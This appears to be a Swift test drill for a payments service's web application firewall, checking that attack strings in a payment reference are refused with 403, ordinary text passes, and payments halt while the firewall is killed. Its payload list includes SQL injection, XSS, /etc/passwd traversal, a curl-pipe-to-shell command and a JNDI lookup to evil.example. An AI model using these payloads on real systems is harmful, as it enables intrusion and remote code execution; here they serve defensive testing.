import AuditAPI
import Demo
import Foundation
import Glibc
import Launcher
import PaymentsAPI
import StrictJSON
import Transport
import Vocabulary
import WafAPI

/// G5: what the contract leaves free is looked at before a service sees it, and while nobody can look, no money moves.
package enum FirewallDrill {
  package static let drill = Drill(
    name: "waf",
    promise:
      "G5: attacks in free text are refused at the door by the OWASP Core Rule Set; while its process is away, nothing with free text goes in.",
    attacks: [strings, killed])

  /// Attacks of the kinds that the rules are for.
  private static let attacks = [
    "' or 1=1 --", "1 union select password from users", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)", "${jndi:ldap://evil.example/a}",
    "<?php system('id'); ?>", "() { :;}; /bin/bash -c id",
  ]
  /// What people write, odd as it looks to a rule.
  private static let ordinary = [
    "Rent for November", "O'Brien & D'Arcy", "select committee dinner", "Invoice 12-2026 (50 %)",
    "Drop in at the table sale; order by phone",
  ]
  /// How long the firewall may take to come back.
  private static let backMax: Duration = .seconds(20)

  private static let strings = Attack(
    "attack-strings", steps: "write attacks into the reference of a payment, and ordinary words",
    expectation: "403 without a word of rules or places, which are on record; ordinary words pass"
  ) { range in
    let token = try await range.tokens(of: 0).accessToken
    for words in ordinary {
      let answer = try await ask(words, token, range)
      guard answer.status == 200 else {
        return .breach("ordinary words are refused: \(words): \(answer.text)")
      }
    }
    var through: [String] = []
    var last: DrillRange.Answer?
    for attack in attacks {
      let answer = try await ask(attack, token, range)
      let told = String(decoding: answer.body, as: UTF8.self)
      if answer.text != "403 refused-by-firewall" || told.contains("reference") {
        through.append("\(attack): \(answer.text)")
      }
      last = answer
    }
    guard through.isEmpty else { return .breach(through.prefix(3).joined(separator: "; ")) }
    guard let correlation = last?.correlation, try await names(correlation, range) else {
      return .breach("no record names the rules")
    }
    return .held(
      "\(attacks.count) of \(attacks.count) attacks refused, \(ordinary.count) of \(ordinary.count) ordinary texts pass",
      recordedAs: correlation)
  }

  private static let killed = Attack(
    "killed", steps: "kill the firewall's process, and pay with a reference at once",
    expectation: "503 with Retry-After until it is back; no payment goes in unseen"
  ) { range in
    let token = try await range.tokens(of: 0).accessToken
    guard let waf = range.processes.first(where: { $0.service == WafOperations.service }) else {
      return .notTried("no firewall runs")
    }
    guard kill(waf.pid, SIGKILL) == 0 else { return .notTried("it cannot be killed from here") }
    var refused = 0
    let end = range.clock.now() + backMax
    while range.clock.now() < end {
      let attack = try await ask(attacks[0], token, range)
      guard [403, 503, 429].contains(attack.status) else {
        return .breach("an attack went in while it was away: \(attack.text)")
      }
      let words = try await ask(ordinary[0], token, range)
      switch words.status {
      case 503:
        guard words.headers["retry-after"] != nil else { return .breach("no Retry-After") }
        refused += 1
      case 200 where refused > 0:
        return .held(
          "\(refused) refused with 503, then it was back", recordedAs: attack.correlation)
      case 200, 429: break
      default: return .breach("ordinary words got \(words.text)")
      }
      try await Task.sleep(for: .milliseconds(20))
    }
    return refused > 0
      ? .breach("it did not come back") : .breach("payments went in while it was away")
  }

  /// Nothing is paid: a rehearsal passes all checks of the door.
  private static func ask(
    _ words: String, _ token: String, _ range: DrillRange
  ) async throws -> DrillRange.Answer {
    let body: JSON = [
      "amount": ["minor_units": 7, "currency": .string("\(range.bank.currency)")],
      "debtor": .string("\(range.bank.residents[0].account)"),
      "creditor": .string("\(range.bank.residents[1].account)"), "reference": .string(words),
    ]
    for _ in 0..<60 {
      let answer = try await range.ask(
        "POST", PaymentsOperations.createPayment.path + "?dry_run=true", token: token,
        headers: [(Header.idempotencyKey, range.newKey())], body: body.canonicalBytes)
      guard answer.status == 429 else { return answer }
      try await Task.sleep(for: .milliseconds(250))
    }
    throw DemoFailure("throttled for 15 s")
  }

  private static func names(_ correlation: CorrelationID, _ range: DrillRange) async throws -> Bool
  {
    for _ in 0..<100 {
      let page = try await range.desk.call(
        AuditOperations.findRecords, Nothing(),
        query: ["correlation": "\(correlation)", "limit": "20"])
      if page.records.contains(where: { $0.record.detail["firewall_rules"] != nil }) { return true }
      try await Task.sleep(for: .milliseconds(100))
    }
    return false
  }
}
